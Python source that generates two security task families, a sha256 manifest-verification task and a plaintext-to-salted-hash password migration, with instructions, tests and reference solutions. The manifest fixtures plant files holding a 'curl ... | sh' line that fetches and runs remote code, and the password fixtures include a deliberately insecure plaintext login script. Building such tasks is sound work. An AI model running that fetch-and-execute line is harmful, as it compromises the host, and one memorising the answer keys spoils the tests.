"""Generated task families of the security category, continued (see :mod:`.base` for what a
family is; the first ones are in :mod:`.security`)."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import random

from .base import Family, Instance
from .support import h4_pw, source

FAMILIES: list[Family] = []

# ------------------------------------------------------------------ manifest-verify
# A release tree and its sha256 manifest (one of four formats); some files were modified, some are
# missing, some were added. Modified files go to quarantine, or are restored from a backup when the
# backup's copy matches the manifest. The tests hold the expected hashes.

_MV_FORMATS = {
    "gnu": "the output format of `sha256sum`: `HASH  PATH` (two spaces; a `*` before PATH marks "
           "binary mode and is not part of the path)",
    "bsd": "the BSD tag format of `sha256sum --tag`: `SHA256 (PATH) = HASH`",
    "json": 'a JSON object `{"algorithm": "sha256", "files": [{"path": ..., "size": ..., "sha256": ...}]}`',
    "csv": "CSV with the header `path,bytes,sha256` (paths with commas or spaces are quoted)",
}

_MV_TESTS = '''"""Checks the tree, the quarantine and the report against the hashes the tests keep."""

import hashlib
import json
from pathlib import Path

import pytest

EXP = json.loads(Path(__file__).with_name("expected.json").read_text())
TREE = Path(EXP["tree"])
QUAR = Path("/app/quarantine")


def sha(p):
    return hashlib.sha256(p.read_bytes()).hexdigest()


@pytest.mark.weight(2)
def test_report():
    got = json.loads(Path("/app/integrity_report.json").read_text())
    for key in ("modified", "missing", "unexpected", "restored"):
        assert sorted(got.get(key, [])) == EXP["report"][key], f"wrong list {key!r}"


@pytest.mark.weight(2)
def test_quarantine():
    for rel, h in EXP["quarantined"].items():
        assert (QUAR / rel).is_file() and sha(QUAR / rel) == h, f"{rel} not quarantined as it was"
        assert not (TREE / rel).exists(), f"{rel} is still in the tree"
    files = sorted(str(p.relative_to(QUAR)) for p in QUAR.rglob("*") if p.is_file())
    assert files == sorted(EXP["quarantined"]), "the quarantine holds other files"


@pytest.mark.weight(1)
def test_tree():
    files = sorted(str(p.relative_to(TREE)) for p in TREE.rglob("*") if p.is_file())
    assert files == sorted(EXP["tree_files"]), "the tree does not hold the expected files"
    for rel, h in EXP["tree_files"].items():
        assert sha(TREE / rel) == h, f"{rel} does not have the expected content"
'''


def _manifest_verify(rng: random.Random, index: int) -> Instance:
    fmt = rng.choice(sorted(_MV_FORMATS))
    restore = rng.random() < 0.45
    odd = rng.random() < 0.5
    tree = rng.choice(["release", "site", "firmware", "bundle"])
    dirs = ["", "bin/", "lib/", "share/doc/", "conf/"]
    stems = ["core", "util", "index", "readme", "boot", "main", "style", "logo", "init", "data"]
    if odd:
        stems += ["release notes", "a,b", "über"]
    names = set()
    while len(names) < rng.randint(14, 22):
        stem = rng.choice(stems)
        names.add(f"{rng.choice(dirs)}{stem}{rng.randint(1, 99)}.{rng.choice(['txt', 'bin', 'cfg', 'js'])}")
    names = sorted(names)
    orig = {}
    for n in names:
        if n.endswith(".bin"):
            orig[n] = bytes(rng.randint(0, 255) for _ in range(rng.randint(40, 300)))
        else:
            orig[n] = "".join(f"{rng.choice(stems)} = {rng.randint(0, 9999)}\n"
                              for _ in range(rng.randint(2, 12))).encode()
    h = {n: hashlib.sha256(b).hexdigest() for n, b in orig.items()}
    picked = rng.sample(names, 7)
    modified, missing = sorted(picked[:4]), sorted(picked[4:6])
    unexpected = sorted({f"{rng.choice(dirs)}extra{rng.randint(1, 9)}.sh" for _ in range(2)})
    cur = {n: b for n, b in orig.items() if n not in missing}
    for n in modified:
        b = bytearray(cur[n])
        b[rng.randrange(len(b))] ^= 1 << rng.randrange(8)  # same size, one bit flipped
        cur[n] = bytes(b)
    for n in unexpected:
        cur[n] = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"
    backup, restored = {}, []
    if restore:
        kinds = ["none", "corrupt", "good", rng.choice(["good", "corrupt", "none"])]
        rng.shuffle(kinds)
        for n, kind in zip(modified, kinds):
            if kind != "none":
                backup[n] = orig[n] if kind == "good" else orig[n][:-1] + b"#"
            restored += [n] if kind == "good" else []
    quarantined = {n: hashlib.sha256(cur[n]).hexdigest() for n in modified if n not in restored}
    tree_files = {n: hashlib.sha256(b).hexdigest() for n, b in cur.items() if n not in quarantined}
    tree_files.update({n: h[n] for n in restored})
    rows = [(n, len(orig[n]), h[n]) for n in names]
    rng.shuffle(rows)
    if fmt == "gnu":
        man = "".join(f"{d}  {'*' if n.endswith('.bin') else ''}{n}\n" for n, _, d in rows)
    elif fmt == "bsd":
        man = "".join(f"SHA256 ({n}) = {d}\n" for n, _, d in rows)
    elif fmt == "json":
        man = json.dumps({"algorithm": "sha256", "files": [{"path": n, "size": s, "sha256": d}
                                                              for n, s, d in rows]}, indent=1)
    else:
        buf = io.StringIO()
        w = csv.writer(buf, lineterminator="\n")
        w.writerow(["path", "bytes", "sha256"])
        w.writerows(rows)
        man = buf.getvalue()
    files: dict[str, str | bytes] = {f"{tree}/{n}": b for n, b in cur.items()}
    files[f"MANIFEST.{ 'json' if fmt == 'json' else 'csv' if fmt == 'csv' else 'sha256'}"] = man
    mname = next(k for k in files if k.startswith("MANIFEST"))
    files.update({f"backup/{n}": b for n, b in backup.items()})
    restore_text = (
        "\n\nA modified file that has a copy under `/app/backup/` (same relative path) whose sha256 "
        "matches the manifest is restored instead: put the backup's copy in its place and list it "
        "under `restored`, not under `modified`; a modified file whose backup copy does not match "
        "is quarantined like any other." if restore else "")
    instruction = f"""\
`/app/{tree}/` is a deployed tree and `/app/{mname}` its manifest, in {_MV_FORMATS[fmt]}. Paths in
the manifest are relative to `/app/{tree}/`. Someone has tampered with the tree.

Verify the tree against the manifest:
- a file listed in the manifest whose sha256 differs is *modified*: move it to `/app/quarantine/`,
  keeping its path relative to the tree (`/app/{tree}/lib/x.txt` goes to
  `/app/quarantine/lib/x.txt`), byte for byte;
- a listed file that is absent is *missing*;
- a file in the tree that the manifest does not list is *unexpected*: leave it where it is.{restore_text}

Write `/app/integrity_report.json`: an object with the keys `modified`, `missing`, `unexpected`
and `restored` (always present), each a sorted list of paths relative to the tree. Do not change
any other file of the tree.
"""
    expected = {"tree": f"/app/{tree}", "quarantined": quarantined, "tree_files": tree_files,
                "report": {"modified": sorted(quarantined), "missing": missing,
                           "unexpected": unexpected, "restored": sorted(restored)}}
    solution = f"""cat > /tmp/verify.py <<'PY_EOF'
import csv, hashlib, io, json, os, re, shutil
from pathlib import Path
tree, man = Path("/app/{tree}"), Path("/app/{mname}").read_text(encoding="utf-8")
want = {{}}
if "{fmt}" == "gnu":
    for line in man.splitlines():
        d, rest = line[:64], line[66:]
        want[rest[1:] if rest.startswith("*") else rest] = d
elif "{fmt}" == "bsd":
    for line in man.splitlines():
        m = re.fullmatch(r"SHA256 \\((.*)\\) = ([0-9a-f]{{64}})", line)
        want[m[1]] = m[2]
elif "{fmt}" == "json":
    want = {{f["path"]: f["sha256"] for f in json.loads(man)["files"]}}
else:
    want = {{r["path"]: r["sha256"] for r in csv.DictReader(io.StringIO(man))}}
sha = lambda p: hashlib.sha256(p.read_bytes()).hexdigest()
rep = {{"modified": [], "missing": [], "unexpected": [], "restored": []}}
for p in sorted(tree.rglob("*")):
    rel = str(p.relative_to(tree))
    if p.is_file() and rel not in want:
        rep["unexpected"].append(rel)
for rel, d in sorted(want.items()):
    p = tree / rel
    if not p.is_file():
        rep["missing"].append(rel)
    elif sha(p) != d:
        b = Path("/app/backup") / rel
        if b.is_file() and sha(b) == d:
            shutil.copyfile(b, p)
            rep["restored"].append(rel)
        else:
            q = Path("/app/quarantine") / rel
            q.parent.mkdir(parents=True, exist_ok=True)
            shutil.move(str(p), str(q))
            rep["modified"].append(rel)
Path("/app/integrity_report.json").write_text(json.dumps(rep, indent=2))
PY_EOF
python3 /tmp/verify.py
"""
    steps = 1 + int(restore)
    knowledge = 1 if fmt in ("gnu", "bsd") else 0
    traps = int(odd) + int(restore)
    total = steps + knowledge + traps
    return Instance(
        instruction=instruction, tests=_MV_TESTS, solution=solution,
        difficulty="easy" if total <= 2 else "medium" if total <= 4 else "hard",
        variant=f"{fmt}/{'restore' if restore else 'quarantine'}" + ("/odd-names" if odd else ""),
        files=files, test_files={"expected.json": json.dumps(expected, indent=1)},
        tags=("sha256", "integrity", fmt), oracle_turns=2,
    )


FAMILIES.append(Family("manifest-verify", "security", "train",
                       "verify a tree against a sha256 manifest in one of four formats; quarantine "
                       "modified files or restore them from a checked backup", _manifest_verify))

# ------------------------------------------------------------------ pw-hash
# A service keeps plaintext passwords (colon, CSV or JSON file). Write a hashing/verifying tool for
# one of three salted KDF schemes, convert the file, remove every plaintext copy, and (some
# instances) switch the login script to the hashed file. Tests verify with hidden passwords.

_PW_USERS = {
    "colon": ("users.txt", "lines `USER:PASSWORD` (the password is everything after the first `:` up "
                           "to the end of the line, spaces included)"),
    "csv": ("users.csv", "CSV with the header `username,password,role` (fields may be quoted)"),
    "json": ("users.json", 'a JSON list of objects `{"username": ..., "password": ..., "role": ...}`'),
}
_PW_SCHEME = {
    "pbkdf2-sha256": "PBKDF2-HMAC-SHA256 (`hashlib.pbkdf2_hmac`) with {it} iterations and a 32-byte "
                     "key: `USER:$pbkdf2-sha256${it}$SALT$HASH`",
    "pbkdf2-sha512": "PBKDF2-HMAC-SHA512 (`hashlib.pbkdf2_hmac`) with {it} iterations and a 64-byte "
                     "key: `USER:$pbkdf2-sha512${it}$SALT$HASH`",
    "scrypt": "scrypt (`hashlib.scrypt`) with n=16384, r=8, p=1 and a 32-byte key: "
              "`USER:$scrypt$ln=14,r=8,p=1$SALT$HASH`",
}

_PW_TESTS = '''"""Checks the hashed file with the hidden passwords, and runs pwtool and login on hidden data."""

import csv
import io
import json
import os
import random
import subprocess
import tempfile
from pathlib import Path

import pytest

from h4_pw import check, make_line

E = json.loads(Path(__file__).with_name("expected.json").read_text())
SVC, SCHEME, ENC, IT, FMT = E["svc"], E["scheme"], E["enc"], E["iterations"], E["fmt"]
TOOL = f"{SVC}/pwtool.py"


def render(users):
    if FMT == "colon":
        return "".join(f"{u}:{p}\\n" for u, p, _ in users)
    if FMT == "json":
        return json.dumps([{"username": u, "password": p, "role": r} for u, p, r in users])
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\\n")
    w.writerow(["username", "password", "role"])
    w.writerows(users)
    return buf.getvalue()


def hidden_users(seed, n):
    rng = random.Random(seed)
    odd = [" lead", "trail ", "a:b:c", "caf\\u00e9-\\u00fc", "quote\\"d", "com,ma"] if E["odd"] else [""]
    return [(f"u{seed}{i}", f"{rng.choice(['kite', 'moss', 'zinc'])}{rng.randint(10, 99)}{rng.choice(odd)}{rng.randint(0, 9)}",
             rng.choice(["admin", "staff"])) for i in range(n)]


def check_file(text, users):
    lines = [l for l in text.split("\\n") if l]
    assert [l.split(":", 1)[0] for l in lines] == [u for u, _, _ in users], "users missing, extra or reordered"
    salts = set()
    for line, (u, p, _) in zip(lines, users):
        ok, salt = check(SCHEME, ENC, line, p, IT)
        assert ok, f"the hash of {u} does not match the password"
        assert len(salt) >= 16, f"salt of {u} is shorter than 16 bytes"
        salts.add(salt)
    assert len(salts) == len(lines), "salts repeat"


@pytest.mark.weight(2)
def test_hashed_file():
    check_file(Path(f"{SVC}/users.hashed").read_text(encoding="utf-8"), [tuple(u) for u in E["users"]])


@pytest.mark.weight(1)
def test_no_plaintext_left():
    pws = [p for _, p, _ in E["users"]]
    for root, _, names in os.walk("/app"):
        for n in names:
            data = Path(root, n).read_bytes()
            for p in pws:
                assert p.encode("utf-8") not in data, f"a plaintext password is still in {root}/{n}"


@pytest.mark.weight(2)
def test_verify_hidden():
    users = hidden_users(5, 6)
    rng = random.Random(9)
    d = Path(tempfile.mkdtemp())
    (d / "h").write_text("".join(make_line(SCHEME, ENC, u, p, rng.randbytes(16), IT) + "\\n"
                                 for u, p, _ in users), encoding="utf-8")
    for u, p, _ in users:
        for pw, want in ((p, 0), (p + "x", 1), (p[:-1], 1)):
            r = subprocess.run(["python3", TOOL, "verify", str(d / "h"), u, pw], capture_output=True, timeout=60)
            assert r.returncode == want, f"verify {u} with a {'right' if want == 0 else 'wrong'} password: exit {r.returncode}"
    r = subprocess.run(["python3", TOOL, "verify", str(d / "h"), "nobody", "x"], capture_output=True, timeout=60)
    assert r.returncode == 1, "an unknown user must give exit status 1"


@pytest.mark.weight(1)
def test_hash_hidden():
    users = hidden_users(7, 5)
    d = Path(tempfile.mkdtemp())
    (d / "in").write_text(render(users), encoding="utf-8")
    outs = []
    for k in range(2):
        r = subprocess.run(["python3", TOOL, "hash", str(d / "in"), str(d / f"out{k}")],
                           capture_output=True, text=True, timeout=120)
        assert r.returncode == 0, r.stderr[-500:]
        outs.append((d / f"out{k}").read_text(encoding="utf-8"))
        check_file(outs[-1], users)
    assert outs[0] != outs[1], "two runs gave the same salts"


@pytest.mark.weight(1)
@pytest.mark.skipif(not E["login"], reason="no login script in this instance")
def test_login():
    assert not Path(f"{SVC}/{E['plain']}").exists(), "the plaintext file is still there"
    for u, p, _ in E["users"][:4]:
        for pw, want in ((p, "ok"), (p + "!", "denied")):
            r = subprocess.run(["python3", f"{SVC}/login.py", u, pw], capture_output=True, text=True, timeout=60)
            assert r.stdout.strip() == want, f"login {u}: {r.stdout.strip()!r}, expected {want!r}"
'''

_LOGIN = {
    "colon": "users = dict(l.rstrip('\\n').split(':', 1) for l in open(PATH, encoding='utf-8') if l.strip())",
    "csv": "users = {r['username']: r['password'] for r in csv.DictReader(open(PATH, encoding='utf-8', newline=''))}",
    "json": "users = {o['username']: o['password'] for o in json.load(open(PATH, encoding='utf-8'))}",
}


def _pw_hash(rng: random.Random, index: int) -> Instance:
    fmt = rng.choice(sorted(_PW_USERS))
    scheme = rng.choice(sorted(_PW_SCHEME))
    how = rng.choice(["hex", "base64"])
    odd, login, copies = rng.random() < 0.5, rng.random() < 0.45, rng.random() < 0.4
    it = rng.choice([20000, 25000, 40000])
    svc = f"/app/{rng.choice(['intranet', 'wiki', 'helpdesk', 'portal'])}"
    plain, plain_desc = _PW_USERS[fmt]
    odd_bits = [" x", "y ", "p:q", "caf\u00e9", 'q"t', "a,b"] if odd else [""]
    users = [(f"{name}{rng.randint(1, 9)}", f"{rng.choice(['Sun', 'Ivy', 'Oak', 'Elm'])}-{rng.randint(1000, 9999)}"
              f"{rng.choice(odd_bits)}{rng.choice('!?#%')}", rng.choice(["admin", "staff", "guest"]))
             for name in rng.sample(["ana", "bo", "cy", "dee", "eli", "fox", "gus", "hal", "ivy", "jo"], 7)]
    text = {"colon": "".join(f"{u}:{p}\n" for u, p, _ in users),
            "json": json.dumps([{"username": u, "password": p, "role": r} for u, p, r in users], indent=1)}.get(fmt)
    if text is None:
        buf = io.StringIO()
        csv.writer(buf, lineterminator="\n").writerows([("username", "password", "role"), *users])
        text = buf.getvalue()
    rel = svc[5:]
    files: dict[str, str | bytes] = {f"{rel}/{plain}": text}
    if copies:
        files[f"{rel}/old/{plain}.orig"] = text
        files[f"{rel}/.{plain}.swp"] = text
    if login:
        files[f"{rel}/login.py"] = (f"#!/usr/bin/env python3\n\"\"\"login.py USER PASSWORD: prints ok or denied.\"\"\"\n"
                                    f"import csv, json, sys\nPATH = '{svc}/{plain}'\n{_LOGIN[fmt]}\n"
                                    "print('ok' if users.get(sys.argv[1]) == sys.argv[2] else 'denied')\n")
    scheme_text = _PW_SCHEME[scheme].format(it=it)
    enc_text = "lowercase hex" if how == "hex" else "standard base64 with padding (`base64.b64encode`)"
    instruction = f"""\
The service in `{svc}/` keeps its users' passwords in plain text in `{svc}/{plain}`: {plain_desc}.
Passwords are UTF-8 and may hold any character.

1. Write `{svc}/pwtool.py` (Python 3, standard library only):
   - `python3 {svc}/pwtool.py hash IN OUT` reads a file in the format of `{plain}` and writes OUT
     with one line per user, in input order: {scheme_text}, where SALT is a fresh random salt of
     16 bytes per user (from `os.urandom` or `secrets`) and HASH the derived key of the password's
     UTF-8 bytes, both in {enc_text}. Lines end with a newline.
   - `python3 {svc}/pwtool.py verify FILE USER PASSWORD` exits 0 if FILE (in OUT's format) has
     USER and PASSWORD matches, 1 otherwise (unknown user included). Compare in constant time.
2. Convert `{svc}/{plain}` into `{svc}/users.hashed` with it.
3. Remove the plaintext passwords: no file under `/app` may contain any of them afterwards (look
   for copies too).""" + (f"""
4. `{svc}/login.py USER PASSWORD` (prints `ok` or `denied`) reads the plaintext file; change it to
   check against `{svc}/users.hashed` instead, with the same output.""" if login else "") + "\n"
    solution = f"""cat > {svc}/pwtool.py <<'PY_EOF'
import base64, csv, hashlib, hmac, io, json, os, sys
SCHEME, HOW, IT = {scheme!r}, {how!r}, {it}
def enc(b): return b.hex() if HOW == "hex" else base64.b64encode(b).decode()
def dec(s): return bytes.fromhex(s) if HOW == "hex" else base64.b64decode(s)
def derive(pw, salt):
    if SCHEME == "scrypt":
        return hashlib.scrypt(pw.encode(), salt=salt, n=16384, r=8, p=1, dklen=32)
    return hashlib.pbkdf2_hmac(SCHEME.split("-")[1], pw.encode(), salt, IT, 64 if SCHEME.endswith("512") else 32)
def params(): return "ln=14,r=8,p=1" if SCHEME == "scrypt" else str(IT)
def read(path):
    text = open(path, encoding="utf-8", newline="").read()
    if {fmt!r} == "colon":
        return [l.split(":", 1) for l in text.split("\\n") if l]
    if {fmt!r} == "json":
        return [(o["username"], o["password"]) for o in json.loads(text)]
    return [(r["username"], r["password"]) for r in csv.DictReader(io.StringIO(text))]
def lookup(path, user):
    for line in open(path, encoding="utf-8").read().split("\\n"):
        u, _, rest = line.partition(":")
        if u == user and line:
            return rest.split("$")
if sys.argv[1] == "hash":
    with open(sys.argv[3], "w", encoding="utf-8") as out:
        for u, p in read(sys.argv[2]):
            salt = os.urandom(16)
            out.write(f"{{u}}:${{SCHEME}}${{params()}}${{enc(salt)}}${{enc(derive(p, salt))}}\\n")
else:
    parts = lookup(sys.argv[2], sys.argv[3])
    ok = parts is not None and len(parts) == 5 and hmac.compare_digest(derive(sys.argv[4], dec(parts[3])), dec(parts[4]))
    sys.exit(0 if ok else 1)
PY_EOF
python3 {svc}/pwtool.py hash {svc}/{plain} {svc}/users.hashed
rm -f {svc}/{plain} {svc}/old/{plain}.orig {svc}/.{plain}.swp
"""
    if login:
        solution += (f"cat > {svc}/login.py <<'PY_EOF'\nimport subprocess, sys\n"
                     f"r = subprocess.run([sys.executable, '{svc}/pwtool.py', 'verify', '{svc}/users.hashed', "
                     "sys.argv[1], sys.argv[2]])\nprint('ok' if r.returncode == 0 else 'denied')\nPY_EOF\n")
    expected = {"svc": svc, "scheme": scheme, "enc": how, "iterations": it, "fmt": fmt, "odd": odd,
                "login": login, "plain": plain, "users": users}
    traps = int(odd) + int(copies)
    total = 1 + int(login) + 1 + traps
    return Instance(
        instruction=instruction, tests=_PW_TESTS, solution=solution,
        difficulty="easy" if total <= 2 else "medium" if total <= 4 else "hard",
        variant=f"{scheme}/{fmt}/{how}" + ("/login" if login else "") + ("/copies" if copies else "") + ("/odd" if odd else ""),
        files=files, test_files={"expected.json": json.dumps(expected), "h4_pw.py": source(h4_pw)},
        tags=("passwords", "kdf", scheme), oracle_turns=3,
    )


FAMILIES.append(Family("pw-hash", "security", "train",
                       "replace a plaintext password file (colon/CSV/JSON) with salted PBKDF2 or scrypt "
                       "hashes, a verify tool, no plaintext copies left, login switched", _pw_hash))
